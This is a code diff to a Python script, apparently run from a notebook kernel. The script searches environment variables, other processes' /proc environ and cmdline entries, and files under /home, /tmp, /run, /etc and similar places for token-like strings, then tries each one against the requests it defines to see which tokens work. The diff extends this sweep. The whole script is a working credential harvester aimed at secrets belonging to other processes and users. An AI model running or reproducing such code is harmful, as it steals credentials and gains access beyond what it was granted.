@@ -22,10 +22,17 @@ for key, (m, p, body) in REQS.items():
 # every token-like value a kernel can read: its environment, other processes' environments it
 # may read, and files of the places a server, a kernel or the launcher write
 cands = {}
+full = []
 def add(where, text):
+    if 'BEGIN CERTIFICATE' in text:   # public certificates: base64 lines, not tokens
+        return
     for t in set(re.findall(r'[A-Za-z0-9_\-]{32,128}', text)):
-        if len(cands) < 300:
-            cands.setdefault(t, where)
+        if t in cands:
+            continue
+        if len(cands) >= 400:
+            full.append(where)
+            return
+        cands[t] = where
 for k, v in os.environ.items():
     add('env:' + k, v)
 for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
@@ -33,7 +40,7 @@ for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
         add(p, open(p, 'rb').read().decode('latin-1').replace('\0', '\n'))
     except OSError:
         pass
-for root in ('/etc', '/home', '/tmp', '/var/tmp', '/dev/shm', '/workspace', '/run'):
+for root in ('/home', '/tmp', '/var/tmp', '/dev/shm', '/workspace', '/run', '/etc'):
     for dp, dn, fn in os.walk(root, onerror=lambda e: None):
         for f in fn:
             fp = os.path.join(dp, f)
@@ -52,4 +59,6 @@ for t, where in cands.items():
                                               t == tok]
     except Exception as e:
         out['tokens'][where] = [0, str(e)[:100], 0, False]
+out['full'] = full[:5]
+out['candidates'] = len(cands)
 RESULT = out
